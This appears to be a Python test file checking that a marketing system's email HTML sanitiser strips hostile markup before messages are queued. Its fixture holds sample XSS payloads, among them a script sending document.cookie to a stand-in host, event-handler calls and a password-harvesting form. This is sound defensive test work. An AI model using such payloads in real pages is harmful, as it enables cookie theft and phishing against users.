"""The production wiring: what the journey writes into the outbox for each channel."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from sqlalchemy.engine import Engine

from agents.journey.context import JourneyContext
from agents.journey.wiring import build_context, channel_payload
from core.db import session_scope
from core.settings import Settings
from core.tables import OutboxMessage

HOSTILE_HTML = (
    '<!doctype html><html lang="en"><head><title>x</title></head>'
    '<body style="font-family: Georgia, serif;">'
    '<p onclick="steal()" style="color:#1d2b24">Your boots are waiting.</p>'
    "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
    '<img src="https://shop.example.com/p.png" onerror="steal()">'
    '<a href="javascript:steal()">Claim</a> <a href="{{unsubscribe_url}}">Unsubscribe</a>'
    '<div style="background:url(https://evil.test/track.gif)">Kestrel Cycle Co.</div>'
    '<form action="https://evil.test/login"><input name="password"></form>'
    "</body></html>"
)


def _context(engine: Engine, tmp_path: Path) -> JourneyContext:
    settings = Settings(data_dir=tmp_path / "var", environment="test")
    return build_context(engine, settings, write_creative=lambda *a: None)


def _enqueue(ctx: JourneyContext, engine: Engine, channel: str, **planned: Any) -> OutboxMessage:
    with session_scope(engine) as session:
        row, created = ctx.enqueue(
            session,
            channel=channel,
            key=f"test:{channel}",
            payload={"offer": {}, "step": "s1", **planned},
            customer_id="c1",
            journey_slug="j1",
            run_id="r1",
            decision_id="d1",
            action_id="a1",
            not_before=None,
        )
        assert created
        session.expunge(row)
    return row


def test_email_html_is_sanitised_before_it_is_enqueued(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    ctx = _context(sqlite_engine, tmp_path)
    content = {"subject": "Your cart", "body_text": "Hi", "body_html": HOSTILE_HTML}
    row = _enqueue(ctx, sqlite_engine, "email", recipient="ada@example.org", content=content)
    html = row.payload["html"]
    for gone in ("<script", "onclick", "onerror", "javascript:", "evil.test", "<form", "<input"):
        assert gone not in html, gone
    # what a designer wrote survives: styles, images, links, the unsubscribe placeholder
    assert 'style="color:#1d2b24"' in html
    assert '<body style="font-family: Georgia, serif;">' in html
    assert 'src="https://shop.example.com/p.png"' in html
    assert 'href="{{unsubscribe_url}}"' in html
    assert "Your boots are waiting." in html and "Kestrel Cycle Co." in html


def test_email_without_html_stays_text_only() -> None:
    payload = channel_payload(
        "email", "ada@example.org", {"subject": "s", "body_text": "t"}, {}, "c"
    )
    assert payload["html"] == ""
